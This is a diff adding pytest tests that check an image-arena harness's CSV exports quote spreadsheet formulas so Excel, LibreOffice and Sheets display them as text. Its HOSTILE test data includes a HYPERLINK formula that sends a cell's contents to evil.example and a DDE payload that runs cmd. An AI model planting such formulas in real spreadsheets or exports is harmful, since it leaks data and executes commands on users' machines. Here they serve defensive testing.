@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import sys
@@ -101,3 +102,55 @@ def test_parquet_without_pyarrow_says_how_to_install_it(tmp_path: Path, monkeypa
     with pytest.raises(ConfigError, match=r"image-arena-harness\[parquet\]"):
         write_frame(pd.DataFrame({"a": [1]}), tmp_path / "x.parquet", "parquet")
     assert not (tmp_path / "x.parquet").exists()
+
+
+HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3",
+           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted")
+
+
+def test_provider_text_that_a_spreadsheet_would_run_is_exported_as_text(retried_run: tuple[Path, str],
+                                                                         tmp_path: Path) -> None:
+    """A provider answers with error messages that are spreadsheet formulas; the CSV export (file and
+    stdout) writes each with a leading quote, so Excel, LibreOffice and Sheets show text, while numeric
+    columns, negative numbers included, stay numbers."""
+    import shutil
+    import sqlite3
+
+    source, run_id = retried_run
+    db = tmp_path / "harness.db"
+    shutil.copy(source, db)
+    with sqlite3.connect(db) as conn:
+        ids = [r[0] for r in conn.execute("SELECT id FROM attempts WHERE run_id=? ORDER BY id", (run_id,))]
+        for attempt_id, text in zip(ids, HOSTILE, strict=False):
+            conn.execute("UPDATE attempts SET error_message=?, latency_ms=-12.5 WHERE id=?", (text, attempt_id))
+    runner = CliRunner()
+    result = runner.invoke(cli, ["export", run_id, "--table", "attempts", "--out", str(tmp_path / "a.csv"),
+                                 "--db", str(db)])
+    assert result.exit_code == 0, result.output
+    stdout = runner.invoke(cli, ["export", run_id, "--table", "attempts", "--out", "-", "--db", str(db)]).output
+    for text in ((tmp_path / "a.csv").read_bytes().decode("utf-8"), stdout):
+        cells = list(csv.DictReader(io.StringIO(text, newline="")))
+        assert [c["error_message"] for c in cells[:len(HOSTILE)]] == [f"'{m}" for m in HOSTILE]
+        assert not any(c[k].startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells for k in c
+                       if k != "latency_ms")
+        frame = pd.read_csv(io.StringIO(text), usecols=["latency_ms", "attempt"])
+        assert frame["latency_ms"].dtype.kind == "f" and (frame["latency_ms"][:len(HOSTILE)] == -12.5).all()
+        assert frame["attempt"].dtype.kind == "i"
+
+
+def test_battle_files_quote_formula_names_and_read_them_back_unchanged(tmp_path: Path) -> None:
+    """A voter id or model name that is a formula is written quoted in a battle CSV (a spreadsheet shows
+    text) and read back exactly; numeric Unix times stay numbers."""
+    from harness.arena.battlefile import read_battles, write_battles
+
+    frame = pd.DataFrame([{"model_a": HOSTILE[0], "model_b": "-1", "winner": "model_a", "category": "@cat",
+                           "challenge": "'=already quoted", "voter": "+v", "tstamp": 1.5e9}])
+    path = tmp_path / "b.csv"
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        write_battles(frame, handle, "csv")
+    cells = next(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
+    assert all(not v.startswith(("=", "+", "-", "@")) for v in cells.values())
+    assert cells["tstamp"] == "1500000000.0"
+    vote = read_battles(path, now=0)[0]
+    assert (vote.left_model, vote.right_model, vote.category, vote.challenge_id, vote.voter, vote.voted_at) == (
+        HOSTILE[0], "-1", "@cat", "'=already quoted", "+v", 1.5e9)
